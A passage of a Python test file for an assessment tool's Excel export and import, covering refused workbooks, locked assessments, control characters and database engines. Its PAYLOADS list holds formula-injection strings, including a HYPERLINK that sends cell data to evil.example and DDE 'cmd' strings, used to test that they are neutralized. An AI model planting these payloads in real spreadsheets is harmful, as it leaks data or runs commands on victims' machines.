    if content == "plain workbook":
        buffer = io.BytesIO()
        openpyxl.Workbook().save(buffer)
        content = buffer.getvalue()
    elif content == "no score column":
        content = edited(export(demo, tmp_path), set_cells({"F1": "Mark"}))
    with pytest.raises(WorkbookRefused, match=message):
        preview(demo, content)


def test_a_missing_file_is_refused_with_its_name(demo, tmp_path) -> None:
    with pytest.raises(WorkbookRefused, match=r"cannot read .*missing\.xlsx"):
        preview(demo, tmp_path / "missing.xlsx")


def test_a_final_assessment_is_locked(demo, tmp_path) -> None:
    path = export(demo, tmp_path, 1)
    changes = preview(demo, edited(path, set_cells({"F2": 5})), 1)
    assert changes.ok
    assert len(changes.changes) == 1
    before = stored(demo, 1)
    with pytest.raises(AssessmentLocked):
        apply_workbook_changes(demo, ACTOR, 1, changes)
    assert stored(demo, 1) == before


# --- user text that looks like a formula ---------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1)",
    "'=already quoted",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_neutralized_and_survives_the_round_trip(
    demo, tmp_path, payload
) -> None:
    set_response(
        demo,
        admin("deniz"),
        2,
        "4.1.a",
        Response(None, payload, payload),
        expected_version=1,
    )
    set_response(
        demo,
        admin("deniz"),
        2,
        "4.1.b",
        Response(1, notes=payload, finding=Finding.MAJOR, finding_reason=payload),
        expected_version=1,
    )
    path = export(demo, tmp_path)
    sheet = openpyxl.load_workbook(path)["Criteria"]
    for ref in ("G2", "H2", "H3", "J3"):
        cell = sheet[ref]
        assert cell.data_type == "s"
        assert cell.value.startswith("'"), (ref, cell.value)
        assert cell.value.replace("\r", "\n") == neutralize(payload).replace("\r", "\n")
    # Sent back untouched, the text is not a change; edited elsewhere, it is kept as it was.
    assert preview(demo, edited(path, lambda sheet: None)).changes == ()
    changes = preview(demo, edited(path, set_cells({"F3": 2})))
    apply_workbook_changes(demo, ACTOR, 2, changes)
    after = stored(demo)
    assert after["4.1.b"][0] == Response(
        2, notes=payload, finding=Finding.MAJOR, finding_reason=payload
    )


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.lstrip()[0] in "=+-@"])
def test_titles_and_owners_that_look_like_formulas_are_neutralized(demo, tmp_path, payload) -> None:
    create_action(demo, admin("deniz"), 2, payload, criteria=["4.1.a"], owner=payload)
    add_note(demo, admin("deniz"), 2, "Seen on site", ["4.1.a"], title=payload, owner=payload)
    workbook = openpyxl.load_workbook(export(demo, tmp_path))
    action = list(workbook["Actions"].iter_rows(values_only=True))[-1]
    record = list(workbook["Evidence"].iter_rows(values_only=True))[-1]
    for value in (action[1], action[5], record[2], record[5]):
        assert value.startswith("'"), value
        assert value.lstrip("' \t\r\n")[0] in "=+-@", value


def test_control_characters_that_xml_cannot_carry_do_not_break_the_export(demo, tmp_path) -> None:
    notes = "Form\x0cfeed and\x0b tab, line\r\nends"
    set_response(demo, admin("deniz"), 2, "4.1.a", Response(3, notes=notes), expected_version=1)
    path = export(demo, tmp_path)
    assert openpyxl.load_workbook(path)["Criteria"]["H2"].value == "Formfeed and tab, line\nends"
    changes = preview(demo, edited(path, set_cells({"F2": 4})))
    apply_workbook_changes(demo, ACTOR, 2, changes)
    assert stored(demo)["4.1.a"][0] == Response(4, notes=notes)  # nothing lost


# --- both engines -----------------------------------------------------------------------------


def test_export_and_import_on_each_engine(store, tmp_path) -> None:
    """The conftest store: SQLite, and PostgreSQL when a server answers (aware timestamps,
    another transaction model)."""
    load_demo(store, ADMIN, today=TODAY)
    path = export(store, tmp_path)
    evidence = openpyxl.load_workbook(path)["Evidence"]
    assert evidence["Q2"].value.tzinfo is None  # Excel has no time zones: stored UTC, naive
    content = edited(path, set_cells({"F2": 5, "H3": "Workshop note"}))
    set_response(store, admin("deniz"), 2, "4.1.c", Response(0), expected_version=1)
    conflicting = preview(store, edited(path, set_cells({"F2": 5, "F4": 4})))
    assert [f.cell for f in conflicting.faults] == ["F4"]
    before = stored(store)
    with pytest.raises(WorkbookRefused):
        apply_workbook_changes(store, ACTOR, 2, conflicting)
    assert stored(store) == before
    apply_workbook_changes(store, ACTOR, 2, preview(store, content))
    after = stored(store)
    assert after["4.1.a"][0].score == 5
    assert after["4.1.b"][0].notes == "Workshop note"
    assert {e.actor for e in events(store, ADMIN, 2, criterion_id="4.1.b")} >= {ACTOR.name}
